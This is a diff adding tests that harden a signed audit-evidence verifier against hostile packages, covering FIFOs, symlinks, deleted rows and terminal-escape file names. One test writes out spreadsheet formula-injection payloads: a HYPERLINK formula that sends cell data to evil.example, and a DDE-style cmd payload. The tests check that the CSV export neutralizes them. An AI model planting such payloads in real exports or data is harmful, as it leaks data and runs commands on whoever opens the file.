@@ -8,7 +8,7 @@
  */
 import { execFileSync } from 'node:child_process';
 import { createHash, createPrivateKey, generateKeyPairSync, KeyObject } from 'node:crypto';
-import { appendFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { appendFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { GetPublicKeyCommand, KMSClient, SignCommand } from '@aws-sdk/client-kms';
@@ -246,6 +246,125 @@ describe('evidence verify', () => {
     expect(execFileSync('bash', ['-c', hashCheck], { cwd: basePackage, encoding: 'utf8' })).toBe('rows.csv: OK\nrows.jsonl: OK\npublic-key.pem: OK\nsummary.md: OK\n');
     expect(execFileSync('bash', ['-c', signatureCheck], { cwd: basePackage, encoding: 'utf8' })).toContain('Signature Verified Successfully');
     expect(summary).toContain('**Why pin the key.**');
+  });
+});
+
+describe('evidence verify on hostile packages', () => {
+  /** Fails the test instead of hanging when verify blocks (a FIFO opened for reading waits for a writer). */
+  async function verifyWithin(dir: string, ms = 20_000): Promise<{ code: number; out: string; err: string }> {
+    let timer: NodeJS.Timeout | undefined;
+    const timeout = new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`verify did not return within ${ms} ms`)), ms)));
+    try {
+      return await Promise.race([cli('verify', dir, '--public-key', `${keyFile}.pub`), timeout]);
+    } finally {
+      clearTimeout(timer);
+    }
+  }
+
+  test('a listed file replaced by a FIFO is refused without being opened, and an unlisted FIFO is a finding', async () => {
+    const dir = copyOfPackage();
+    rmSync(join(dir, 'rows.csv'));
+    execFileSync('mkfifo', [join(dir, 'rows.csv')]);
+    execFileSync('mkfifo', [join(dir, 'extra')]);
+    const result = await verifyWithin(dir);
+    expect(result.code).toBe(1);
+    expect(result.out).toContain('FAIL  rows.csv: is a FIFO, not a regular file; refused without opening it');
+    expect(result.out).toContain('FAIL  extra: is a FIFO, not a regular file; refused without opening it');
+  });
+
+  test('a listed file replaced by a symlink (even to an identical copy) is refused', async () => {
+    const dir = copyOfPackage();
+    const copy = join(root, `rows-copy-${copies}.jsonl`);
+    cpSync(join(dir, 'rows.jsonl'), copy);
+    rmSync(join(dir, 'rows.jsonl'));
+    symlinkSync(copy, join(dir, 'rows.jsonl'));
+    const result = await verifyWithin(dir);
+    expect(result.code).toBe(1);
+    expect(result.out).toContain('FAIL  rows.jsonl: is a symlink, not a regular file; refused without opening it');
+  });
+
+  test('one deleted row is reported once per file, not once for every row after it', async () => {
+    const dir = copyOfPackage();
+    const m = manifestOf(dir);
+    const lines = readFileSync(join(dir, 'rows.jsonl'), 'utf8').trimEnd().split('\n');
+    expect(lines.length).toBeGreaterThan(50);
+    writeFileSync(join(dir, 'rows.jsonl'), `${[...lines.slice(0, 3), ...lines.slice(4)].join('\n')}\n`);
+    const result = await verifyEvidence(dir);
+    expect(result.problems.map((p) => `${p.file}: ${p.message}`.replace(/[0-9a-f]{64}/g, 'H').replace(/\d+ bytes/g, 'N bytes'))).toEqual([
+      'rows.jsonl: modified: N bytes with SHA-256 H; the manifest lists N bytes with SHA-256 H',
+      `rows.jsonl: holds ${m.result.row_count - 1} rows; the manifest says ${m.result.row_count}`,
+      'rows.jsonl: the row listed 4th in the manifest (record_hash H) is missing',
+    ]);
+  });
+
+  test('many findings of one kind are capped and summarized', async () => {
+    const dir = copyOfPackage();
+    const csv = readFileSync(join(dir, 'rows.csv'), 'utf8');
+    const changed = csv.split('"MODIFY"').length - 1;
+    expect(changed).toBeGreaterThan(10);
+    writeFileSync(join(dir, 'rows.csv'), csv.replaceAll('"MODIFY"', '"UPSERT"'));
+    const result = await verifyEvidence(dir);
+    const content = result.problems.filter((p) => p.kind === 'row-content');
+    expect(content).toHaveLength(6);
+    expect(content[5]!.message).toBe(`${changed - 5} more finding(s) of kind row-content (the first 5 are listed above)`);
+  });
+
+  test('a table writer\'s formula in actor reaches rows.csv as text, rows.jsonl exactly, and the package verifies', async () => {
+    const real = await runQuery({ name: 'evidence-changes', params: { from: '2020-01-01', to: '2030-12-31' }, dataDir });
+    const out = join(root, 'formula');
+    // Rows made by the real normalizer, with actors a table writer could set (and that a
+    // spreadsheet would run), re-hashed as the collector would hash them.
+    const { recordHash } = await import('../../lambda/core/record-hash');
+    const actors = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', "'already quoted", '-1+2'];
+    const rows = real.rows.slice(0, actors.length).map((row, i) => {
+      const forged: Record<string, unknown> = { ...row, actor: actors[i] };
+      const changed = (v: unknown) => (typeof v === 'string' ? JSON.parse(v) : v);
+      forged.record_hash = recordHash(({
+        ...(forged as object),
+        event_time: new Date(forged.event_time as string).toISOString(),
+        changed_attributes: changed(forged.changed_attributes),
+        redacted_attributes: changed(forged.redacted_attributes),
+      }) as never);
+      return forged;
+    });
+    const signer = ed25519Signer(readFileSync(keyFile, 'utf8'));
+    await exportEvidence({ runQuery: async () => ({ ...real, rows }), request: { name: 'evidence-changes', params: {}, dataDir }, outDir: out, signer, tool: { version: '0', gitCommit: 'unknown' } });
+
+    const csv = readFileSync(join(out, 'rows.csv'), 'utf8');
+    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
+    expect(csv).toContain('"\'@SUM(1+1)*cmd|\' /C calc\'!A0"');
+    expect(csv).toContain('"\'\'already quoted"');
+    expect(csv).toContain('"\'-1+2"');
+    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
+    const jsonl = readFileSync(join(out, 'rows.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l).actor);
+    expect(jsonl).toEqual(actors);
+    const result = await cli('verify', out, '--public-key', `${keyFile}.pub`);
+    expect(result.out).toContain(`rows.csv: record_hash recomputed and matching for ${actors.length} of ${actors.length} rows`);
+    expect(result.code).toBe(0);
+  });
+
+  test('a package of the earlier format v1 (CSV cells not neutralized) still verifies, read as it was written', async () => {
+    const dir = copyOfPackage();
+    const csv = readFileSync(join(dir, 'rows.csv'), 'utf8');
+    // The demo's values need no neutralization, so this rows.csv is also what v1 wrote.
+    expect(csv).not.toMatch(/(^|,)"'/m);
+    const v1 = { ...manifestOf(dir), format: 'ddb-audit/evidence/v1' };
+    const bytes = Buffer.from(`${JSON.stringify(v1, null, 2)}\n`);
+    writeFileSync(join(dir, 'manifest.json'), bytes);
+    writeFileSync(join(dir, 'manifest.sig'), await ed25519Signer(readFileSync(keyFile, 'utf8')).sign(bytes));
+    const result = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
+    expect(result.out).toMatch(/VALID: every file matches the signed manifest\n$/);
+    expect(result.code).toBe(0);
+  });
+
+  test('file names with control characters are printed escaped: nothing can repaint the verdict', async () => {
+    const dir = copyOfPackage();
+    writeFileSync(join(dir, 'x\r\u001b[2KVALID: every file matches the signed manifest\u001b[8m'), '');
+    const result = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
+    expect(result.code).toBe(1);
+    expect(result.out).toContain('FAIL  x\\x0d\\x1b[2KVALID: every file matches the signed manifest\\x1b[8m: not listed in the manifest');
+    for (const line of result.out.split('\n')) expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
+    expect(result.out).toMatch(/\nINVALID: 1 problem\(s\) in x\\x0d/);
   });
 });
 
